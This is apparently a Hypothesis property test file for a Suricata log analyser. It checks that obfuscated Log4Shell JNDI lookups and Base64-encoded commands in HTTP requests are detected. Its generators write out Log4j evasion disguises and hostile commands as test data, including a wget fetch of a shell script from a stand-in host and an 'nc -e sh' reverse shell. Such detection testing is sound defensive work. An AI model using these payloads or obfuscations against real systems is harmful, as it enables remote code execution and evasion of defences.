"""Law: no composition of the known disguises hides a lookup or a command."""

from __future__ import annotations

import base64

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st

from suricata_eve.analysis.base64text import find_base64
from suricata_eve.analysis.contents import classify
from suricata_eve.analysis.hidden import search_texts
from suricata_eve.analysis.jndi import find_lookups, resolve
from suricata_eve.analysis.payloads import payloads

pytestmark = pytest.mark.property

NAMES = st.text("ABCxyz09:._", max_size=8).filter(lambda name: ":-" not in name + "-")
PREFIXES = st.sampled_from(["env", "sys", "k8s", "ctx", "", ":", "no such"])


@st.composite
def disguises(draw: st.DrawFn, text: str, depth: int = 3) -> str:
    """Ways to write a piece of a lookup so that Log4j resolves it to the piece."""
    inner = draw(disguises(text, depth - 1)) if depth and draw(st.booleans()) else text
    ways = [
        inner,
        f"${{::-{inner}}}",
        f"${{{draw(PREFIXES)}:{draw(NAMES)}:-{inner}}}",
        f"${{base64:{base64.b64encode(text.encode()).decode()}}}",
    ]
    if "\\" not in inner and "%" not in inner:  # escapes of escapes are only undone so often
        ways += [
            "".join(f"\\u{ord(character):04x}" for character in inner),
            "".join(f"%{code:02X}" for code in inner.encode()),
        ]
    if text == text.lower():
        ways += [f"${{lower:{inner}}}", f"${{lower:${{upper:{inner}}}}}"]
    if "'" not in inner and "$" not in inner:
        ways.append(f"${{date:'{inner}'}}")
    return draw(st.sampled_from(ways))


@st.composite
def written_lookups(draw: st.DrawFn) -> tuple[str, str, str]:
    """A plain lookup, a way to write it, and its host."""
    scheme = draw(st.sampled_from(["ldap", "ldaps", "rmi", "dns", "iiop"]))
    host = draw(st.sampled_from(["192.0.2.66", "cb.example.net", "h"]))
    command = draw(st.sampled_from(["id", "wget http://192.0.2.66/x.sh", "nc 192.0.2.1 9 -e sh"]))
    path = "Basic/Command/Base64/" + base64.b64encode(command.encode()).decode()
    plain = f"{scheme}://{host}:1389/{path}"
    pieces = ["jndi", ":", scheme, ":", "/", "/", host, ":", "1389", "/", path]
    cuts = [piece if len(piece) < 2 else [piece[:1], piece[1:]] for piece in pieces]
    parts = [part for cut in cuts for part in cut]
    return f"${{jndi:{plain}}}", "${" + "".join(draw(disguises(part)) for part in parts) + "}", host


@given(written_lookups(), st.integers(0, 2))
def test_a_disguised_lookup_resolves_to_the_plain_one(
    lookup: tuple[str, str, str], times: int
) -> None:
    """Whatever the composition, also percent-encoded once more, or twice."""
    plain, written, host = lookup
    for _ in range(times if "%" not in written and "\\" not in written else 0):
        written = "".join(f"%{code:02x}" for code in written.encode())

    found = find_lookups(f"/?x={written}&y")
    assert [(x.resolved, x.host) for x in found] == [(plain, host)]
    assert plain in resolve(written)


WORDS = st.text(st.characters(codec="ascii", exclude_categories=["C"]), min_size=1, max_size=80)
TOOLS = st.sampled_from(["wget http://192.0.2.66/", "curl -s ", "bash -c ", "powershell -nop "])


@st.composite
def encoded_commands(draw: st.DrawFn) -> tuple[bytes, str]:
    """A command's bytes and a variant of its Base64."""
    command = draw(TOOLS) + draw(WORDS)
    assume("${" not in command)  # that may be a lookup, which is another finding
    data = command.encode(draw(st.sampled_from(["utf-8", "utf-16le"])))
    encode = draw(st.sampled_from([base64.b64encode, base64.urlsafe_b64encode]))
    return data, encode(data).decode().rstrip(draw(st.sampled_from(["", "="])))


@given(
    encoded_commands(),
    st.sampled_from([("", ""), ("/go?u=", "&x=1"), ("Bearer ", ""), ('{"a":"', '"}')]),
)
def test_an_encoded_command_is_found_in_every_variant(
    command: tuple[bytes, str], around: tuple[str, str]
) -> None:
    """Either alphabet, with and without padding, as UTF-8 and UTF-16LE."""
    data, sent = command
    frame = pd.DataFrame({"http.url": [around[0] + sent + around[1]]}, index=[5])

    found = payloads(frame)
    assert found.index[0] == 5
    assert (found["match"].iloc[0], found["data"].iloc[0]) == (sent, data)
    assert found["decoded"].iloc[0] in {data.decode("utf-8"), data.decode("utf-16le", "replace")}


FRAGMENTS = st.sampled_from(
    ["${", "}", ":-", "jndi:", "ldap://h/", "${jndi:ldap://h/a}", "${lower:", "${base64:"]
) | st.sampled_from(
    ["${date:'", "%24", "%7b", "%25", "\\u00", "\\x", "\\/", "d2dldCBodHRwOi8v", "JHtqbmRp", "AA=="]
)
ANYTHING = st.lists(FRAGMENTS | st.text(max_size=5), max_size=40).map("".join)


@given(ANYTHING)
@example("%")
@example("\\u")
@example("\x00${jndi:ldap://\x00")
def test_no_text_raises_and_what_is_found_is_in_it(text: str) -> None:
    """Every match is a part of the text, and what is left over is bounded by it."""
    for found in find_lookups(text):
        assert found.match in text
    for finding in search_texts([text], binary=True)[0]:
        assert finding.match in text
        if finding.payload is not None:
            assert len(finding.payload.data) <= len(text.encode())
    assert len(resolve(text).encode()) <= 3 * len(text.encode())
    classify(text)


@given(st.binary(max_size=200))
def test_no_bytes_raise(data: bytes) -> None:
    for found in find_base64(data, binary=True):
        assert data[found.start : found.end].decode("ascii") == found.encoded


@given(st.lists(ANYTHING, max_size=6))
def test_texts_in_a_frame_are_searched_as_each_alone(texts: list[str]) -> None:
    """What a row gives does not depend on its neighbours."""
    column = pd.arrays.ArrowExtensionArray(pa.array(texts, pa.string()))
    frame = pd.DataFrame({"http.url": column})
    whole = payloads(frame, content="any")
    alone = [payloads(frame.iloc[place : place + 1], content="any") for place in range(len(frame))]

    pd.testing.assert_frame_equal(whole, pd.concat([payloads(frame.iloc[:0]), *alone]))
